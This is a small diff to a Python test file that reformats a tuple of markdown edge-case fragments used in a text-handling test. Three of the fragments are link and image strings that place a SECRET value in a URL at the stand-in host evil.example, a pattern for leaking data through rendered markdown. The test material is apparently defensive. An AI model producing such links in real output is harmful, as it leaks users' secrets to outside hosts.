@@ -171,8 +171,8 @@ def test_any_text_is_taken_and_its_words_are_kept(text):
 
 
 GROWS = (
-    *("`", "``", "```\n", "```python\n", "~~~\n", "\n", " ", "word ", "    x = 1\n", "[a", "[1] ", "\\", "- ", "| ", "2*3*4 ", "x**2", "*", "**"),
-    *(f"](https://evil.example/{SECRET}) ", f"https://evil.example/{SECRET} ", f"![i](evil.example/{SECRET}) "),
+    "`", "``", "```\n", "```python\n", "~~~\n", "\n", " ", "word ", "    x = 1\n", "[a", "[1] ", "\\", "- ", "| ", "2*3*4 ", "x**2", "*", "**",
+    f"](https://evil.example/{SECRET}) ", f"https://evil.example/{SECRET} ", f"![i](evil.example/{SECRET}) ",
 )  # fmt: skip
 
 
